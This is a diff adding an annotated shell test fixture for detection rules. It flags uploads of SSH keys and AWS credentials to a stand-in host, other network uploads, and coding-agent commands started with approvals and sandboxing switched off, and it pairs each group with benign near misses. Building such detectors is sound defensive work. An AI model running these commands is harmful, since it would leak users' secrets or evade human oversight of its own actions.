@@ -1,0 +1,41 @@
+#!/bin/sh
+# Annotated samples: uploads that are not a plain read (inert: hosts under example.com, never run).
+
+# ruleid: shell-secret-file-read
+curl -s -F "file=@$HOME/.ssh/id_rsa" https://collect.example.com/u
+# ruleid: shell-secret-file-read
+curl -s --data-binary @"$HOME/.aws/credentials" https://collect.example.com/u
+# ruleid: shell-network-upload
+scp -q ./report.txt backup@files.example.com:/srv/in/
+# ruleid: shell-network-upload
+rsync -az ./out/ mirror.example.com:incoming/
+# ruleid: shell-network-upload
+gh gist create --public notes.txt
+# ruleid: shell-network-upload
+git push https://git.example.com/someone/mirror.git HEAD:main
+
+# near misses: downloads, a named remote, a form field that is not a file
+# ok: shell-network-upload
+scp -q backup@files.example.com:/srv/out/report.txt ./report.txt
+# ok: shell-network-upload
+git push origin main
+# ok: shell-network-upload
+gh gist view 0123abcd
+# ok: shell-secret-file-read
+curl -s -F "name=@alice" https://api.example.com/users
+
+# coding agents started without approvals
+# ruleid: shell-agent-approvals-off
+codex exec --dangerously-bypass-approvals-and-sandbox "update the release notes"
+# ruleid: shell-agent-approvals-off
+codex exec -a never "summarise the diff"
+# ruleid: shell-agent-approvals-off
+claude -p "fix the build" --dangerously-skip-permissions
+# ruleid: shell-agent-approvals-off
+gemini --yolo -p "tidy the imports"
+# ok: shell-agent-approvals-off
+codex exec -a on-request "summarise the diff"
+# ok: shell-agent-approvals-off
+claude -p "explain this function"
+# ok: shell-agent-approvals-off
+gemini -p "never mind the style"
